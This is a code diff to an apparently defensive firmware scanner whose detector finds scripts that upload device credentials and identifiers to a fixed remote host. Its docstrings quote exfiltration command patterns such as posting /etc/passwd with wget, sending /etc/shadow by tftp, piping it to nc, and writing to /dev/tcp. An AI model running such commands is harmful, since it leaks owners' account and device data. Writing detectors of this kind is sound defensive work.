@@ -6,9 +6,14 @@ written in the image, not a variable) and carries device data to it: a file of t
 uploaded (`wget --post-file=/etc/passwd`, `curl -F f=@/etc/config/network`,
 `tftp -p -l /etc/shadow HOST`, `cat /etc/passwd | nc HOST 80`, `> /dev/tcp/HOST/PORT`) or
 identifiers put into the request (`?mac=$(cat /sys/class/net/eth0/address)`, `nvram show`,
-serial numbers, IMEI). A download (`wget http://update…/fw.bin`) or an NTP query sends
-nothing of the device and is not reported. A private or LAN address is reported at low
-severity: it stays inside the network the device sits in.
+serial numbers, IMEI). What is sent is followed back through the script: the variables it
+uses (`P="mac=$MAC"`, `MAC=$(cat …)`), the files it uploads that the job wrote first
+(`ifconfig > /tmp/n; curl -F n=@/tmp/n …`), and a host named by a variable whose one value
+is a literal (`SERVER=collect.example.net` in a sourced config file, `H="$A.$B"`). A
+download (`wget http://update…/fw.bin`) or an NTP query sends nothing of the device and is
+not reported; neither is a destination on the LAN, loopback or link-local (it reaches
+whatever host each owner's network has there, never a fixed collector) nor a host read
+from the device's own configuration (`$(nvram get update_server)`).
 
 Scripts are read through the boot chain (`firmproof.bootchain`): what init, cron and inetd
 run, plus the hotplug and PPP event scripts. Programs are read as strings: a command line
@@ -47,8 +52,8 @@ SCRIPT_EXFIL = rule(
         (account files, configuration, NVRAM, MAC address, serial number, IMEI) to a destination
         written into the image. Nobody asked the owner: the vendor or whoever planted the line
         collects what it needs to log in or to track the device. `details.host` is the
-        destination (`details.private` when it is a LAN address: low severity),
-        `details.data` what is sent.""",
+        destination, `details.data` what is sent. LAN and loopback destinations and hosts read
+        from the device's configuration are not reported.""",
     confirm="""Read the quoted line and the chain that runs it (`details.chain`); follow the
         variables it uses to their assignments. On a device or in an emulator, capture the
         traffic to `details.host` at boot.""",
@@ -102,18 +107,48 @@ class Upload:
     tool: str
     host: str
     data: tuple[str, ...]     # what of the device is sent
-    private: bool
 
 
-def _host_of(word: str) -> str | None:
-    """The literal remote host a word names, or None (a variable, a local path)."""
+def _host_of(word: str, variables: Mapping[str, list[str]] | None = None) -> str | None:
+    """The literal remote host a word names, or None (a variable whose value is not a
+    literal, a local path, a LAN or loopback address)."""
+    if variables and "$" in word:
+        word = _literal_vars(word, variables)
     m = _URL.search(word)
     host = m.group(1) if m else word.split("@")[-1].split(":")[0]
     if not host or "$" in host or "%" in host or "`" in host or not _HOST.match(host):
         return None
-    if host.lower() in _NOT_REMOTE:
+    if host.lower() in _NOT_REMOTE or _is_private(host):
         return None
     return host
+
+
+_VAR = re.compile(r"\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))")
+
+
+def _literal_vars(word: str, variables: Mapping[str, list[str]], depth: int = 0) -> str:
+    """`word` with each variable replaced by its value where the scripts give it exactly one
+    value, and that value is a literal (`SERVER=collect.example.net`, `H="$A.$B"` of
+    literals); a value read at run time (`$(nvram get server)`, `$1`) stays as written."""
+    if depth > 3:
+        return word
+
+    def one(m: re.Match[str]) -> str:
+        values = set(variables.get(m.group(1) or m.group(2), []))
+        if len(values) != 1:
+            return m.group(0)
+        value = _unquote(next(iter(values)))
+        if "$" in value:
+            value = _literal_vars(value, variables, depth + 1)
+        return m.group(0) if any(c in value for c in "$`()<>|;& \t") else value
+
+    return _VAR.sub(one, word)
+
+
+def _unquote(value: str) -> str:
+    if len(value) >= 2 and value[0] == value[-1] and value[0] in "'\"":
+        return value[1:-1]
+    return value
 
 
 _LAN = tuple(ipaddress.ip_network(n) for n in (
@@ -130,15 +165,21 @@ def _is_private(host: str) -> bool:
     return any(address in net for net in _LAN)
 
 
-def _expand_vars(text: str, variables: Mapping[str, list[str]], depth: int = 0) -> str:
-    """`text` followed by the assignments of the variables it uses (two levels), so that
-    `?mac=$MAC` shows where MAC comes from."""
-    if depth > 2:
+def _expand_vars(text: str, variables: Mapping[str, list[str]],
+                 written: Mapping[str, list[str]] | None = None, depth: int = 0) -> str:
+    """`text` followed by the assignments of the variables it uses and the commands that
+    wrote the files it names (three levels), so that `?mac=$MAC` shows where MAC comes from
+    and `-F n=@/tmp/n` what went into /tmp/n."""
+    if depth > 3:
         return text
     extra = []
     for name in re.findall(r"\$\{?([A-Za-z_]\w*)", text):
         for value in variables.get(name, []):
-            extra.append(_expand_vars(value, variables, depth + 1))
+            extra.append(_expand_vars(value, variables, written, depth + 1))
+    for path, producers in (written or {}).items():
+        if path in text and re.search(r"(?<![\w./-])" + re.escape(path) + r"(?![\w./-])", text):
+            for producer in producers:
+                extra.append(_expand_vars(producer, variables, written, depth + 1))
     return " ".join([text, *extra])
 
 
@@ -147,8 +188,11 @@ def _data_of(text: str) -> list[str]:
 
 
 def upload_of(argv: tuple[str, ...], pipeline: Iterable[tuple[str, ...]],
-              redirects: Iterable[tuple[str, str]], variables: Mapping[str, list[str]]) -> Upload | None:
-    """What one command sends where, if it sends device data to a literal remote host."""
+              redirects: Iterable[tuple[str, str]], variables: Mapping[str, list[str]],
+              written: Mapping[str, list[str]] | None = None) -> Upload | None:
+    """What one command sends where, if it sends device data to a literal remote host.
+    `variables`: the assignments of the scripts; `written`: the files they write, each with
+    the commands that write it."""
     if not argv:
         return None
     tool = posixpath.basename(argv[0])
@@ -160,15 +204,16 @@ def upload_of(argv: tuple[str, ...], pipeline: Iterable[tuple[str, ...]],
     producers = [" ".join(p) for p in pipeline if p and p != argv]
     dev_tcp = next((t for op, t in redirects if t.startswith(("/dev/tcp/", "/dev/udp/"))), None)
     if dev_tcp is not None:
-        host = _host_of(dev_tcp.split("/")[3]) if len(dev_tcp.split("/")) > 3 else None
+        host = _host_of(dev_tcp.split("/")[3], variables) if len(dev_tcp.split("/")) > 3 else None
         sent += [" ".join(argv), *producers, *redirect_in]
         tool = "/dev/tcp"
     elif tool in ("wget", "uclient-fetch", "curl"):
         for i, a in enumerate(args):
-            if _URL.match(a):
-                host = host or _host_of(a)
-                query = a.split("?", 1)[1] if "?" in a else ""
-                sent.append(query)
+            url = _literal_vars(a, variables) if "$" in a else a
+            if _URL.match(url):
+                host = host or _host_of(url, variables)
+                query = url.split("?", 1)[1] if "?" in url else ""
+                sent.append(_URL.sub("", url, count=1))    # path and query go out
                 params += [m.group(0).lstrip("?&") for m in _DEVICE_PARAM.finditer("?" + query)]
             elif a.startswith(("--post-file", "--post-data", "--body-file", "--body-data", "--data",
                                "--form", "--upload-file", "--header")):
@@ -183,14 +228,14 @@ def upload_of(argv: tuple[str, ...], pipeline: Iterable[tuple[str, ...]],
             return None  # listeners and shells are FP-SVC's
         positional = [a for a in args if not a.startswith("-")]
         if positional:
-            host = _host_of(positional[0])
+            host = _host_of(positional[0], variables)
         sent += [*producers, *redirect_in]
     elif tool == "tftp":
         if "-p" not in args and not any(a.startswith("-p") for a in args):
             return None
         positional = [a for j, a in enumerate(args)
                       if not a.startswith("-") and (j == 0 or args[j - 1] not in ("-l", "-r", "-b"))]
-        host = _host_of(positional[0]) if positional else None
+        host = _host_of(positional[0], variables) if positional else None
         for j, a in enumerate(args):
             if a == "-l" and j + 1 < len(args):
                 sent.append(args[j + 1])
@@ -198,37 +243,58 @@ def upload_of(argv: tuple[str, ...], pipeline: Iterable[tuple[str, ...]],
         positional = [a for j, a in enumerate(args) if not a.startswith("-")
                       and (j == 0 or args[j - 1] not in ("-u", "-p", "-P"))]
         if len(positional) >= 3:
-            host = _host_of(positional[0])
+            host = _host_of(positional[0], variables)
             sent += positional[2:]
     elif tool == "scp":
         positional = [a for a in args if not a.startswith("-")]
         if len(positional) >= 2 and ":" in positional[-1]:
-            host = _host_of(positional[-1])
+            host = _host_of(positional[-1], variables)
             sent += positional[:-1]
     if host is None:
         return None
-    data = sorted(set(_data_of(_expand_vars(" ".join(sent), variables))) | set(params))
+    data = sorted(set(_data_of(_expand_vars(" ".join(sent), variables, written))) | set(params))
     if not data:
         return None
-    return Upload(tool, host, tuple(data), _is_private(host))
+    return Upload(tool, host, tuple(data))
 
 
-def _variables(fs: RootFS, paths: Iterable[str]) -> dict[str, list[str]]:
-    """Every assignment's raw value (command substitutions included) of the scripts."""
-    out: dict[str, list[str]] = {}
+_FILE_TARGET = re.compile(r"^/(?!dev/)[\w./+-]+$")
+
+
+def _variables(fs: RootFS, paths: Iterable[str]) -> tuple[dict[str, list[str]], dict[str, list[str]]]:
+    """Every assignment's raw value (command substitutions included) of the scripts, and
+    the files they write (`> FILE`, `>> FILE`, `tee FILE`) with the text of the pipeline
+    that writes each."""
+    variables: dict[str, list[str]] = {}
+    written: dict[str, list[str]] = {}
     for path in paths:
         text = fs.text(path)
         if text is None:
             continue
-        for command in shell.parse(text).commands:
+        commands = shell.parse(text).commands
+        pipelines: dict[int, list[shell.Command]] = {}
+        for command in commands:
+            pipelines.setdefault(command.pipeline, []).append(command)
             for assignment in command.assignments:
-                out.setdefault(assignment.name, []).append(assignment.value.raw)
-    return out
+                variables.setdefault(assignment.name, []).append(assignment.value.raw)
+        for command in commands:
+            targets = [r.target for r in command.redirects if r.op in (">", ">>", ">|") and r.fd in ("", "1")]
+            if command.words and posixpath.basename(command.words[0].value) == "tee":
+                targets += [w.value for w in command.words[1:] if not w.value.startswith("-")]
+            targets = [t for t in targets if _FILE_TARGET.match(t)]
+            if targets:
+                producer = " ".join(text[c.start:c.end] for c in pipelines[command.pipeline])
+                for target in targets:
+                    written.setdefault(target, []).append(producer)
+    return variables, written
 
 
 HOTPLUG_DIRS = ("/etc/hotplug.d", "/etc/hotplug", "/lib/mdev", "/etc/ppp/ip-up.d", "/etc/ppp/ip-down.d",
-                "/etc/udhcpc", "/usr/share/udhcpc", "/etc/network/if-up.d")
-HOTPLUG_FILES = ("/sbin/hotplug", "/etc/ppp/ip-up", "/etc/ppp/ip-down", "/etc/mdev.conf")
+                "/etc/udhcpc", "/usr/share/udhcpc", "/etc/network/if-up.d", "/etc/udhcpc.user.d",
+                "/lib/netifd/ppp.d", "/etc/dhcp/dhclient-exit-hooks.d", "/etc/dhcp/dhclient-enter-hooks.d")
+# OpenWrt's udhcpc hook (/lib/netifd/dhcp.script sources /etc/udhcpc.user) and PPP's ip-up
+HOTPLUG_FILES = ("/sbin/hotplug", "/etc/ppp/ip-up", "/etc/ppp/ip-down", "/etc/mdev.conf", "/etc/udhcpc.user",
+                 "/lib/netifd/dhcp.script", "/etc/ppp/ipv6-up")
 
 
 class Exfiltration(Analyzer):
@@ -259,18 +325,17 @@ class Exfiltration(Analyzer):
             scripts = chain.scripts
         if not steps:
             return
-        variables = _variables(fs, {s.path for s in steps} | set(scripts))
+        variables, written = _variables(fs, {s.path for s in steps} | set(scripts))
         seen: set[tuple[str, int]] = set()
         for step in steps:
             pipeline = [i.argv for i in step.pipeline_invocations()]
-            upload = upload_of(step.argv, pipeline, step.redirects, variables)
+            upload = upload_of(step.argv, pipeline, step.redirects, variables, written)
             if upload is None or (step.path, step.start) in seen:
                 continue
             seen.add((step.path, step.start))
             yield SCRIPT_EXFIL.at(fs, step.path, step.start, step.end - step.start,
-                                  severity=Severity.LOW if upload.private else None,
                                   tool=upload.tool, host=upload.host, data=list(upload.data),
-                                  private=upload.private, chain=list(step.full_chain), via=step.via)
+                                  chain=list(step.full_chain), via=step.via)
 
     @staticmethod
     def _senders(fs: RootFS) -> frozenset[str]:
@@ -316,9 +381,8 @@ class Exfiltration(Analyzer):
                 if upload is None:
                     continue
                 yield BINARY_EXFIL.at(fs, entry.path, start, end - start,
-                                      severity=Severity.LOW if upload.private else None,
                                       tool=upload.tool, host=upload.host, data=list(upload.data),
-                                      private=upload.private, string=text[:200])
+                                      string=text[:200])
                 break
 
     @staticmethod
@@ -329,7 +393,7 @@ class Exfiltration(Analyzer):
             param = _DEVICE_PARAM.search(text)
             if host is None or param is None:
                 return None
-            return Upload("http", host, (param.group(0).lstrip("?&"),), _is_private(host))
+            return Upload("http", host, (param.group(0).lstrip("?&"),))
         for command in shell.parse(text).commands:
             argv = tuple(w.value for w in command.words)
             redirects = tuple((r.fd + r.op, r.target) for r in command.redirects)
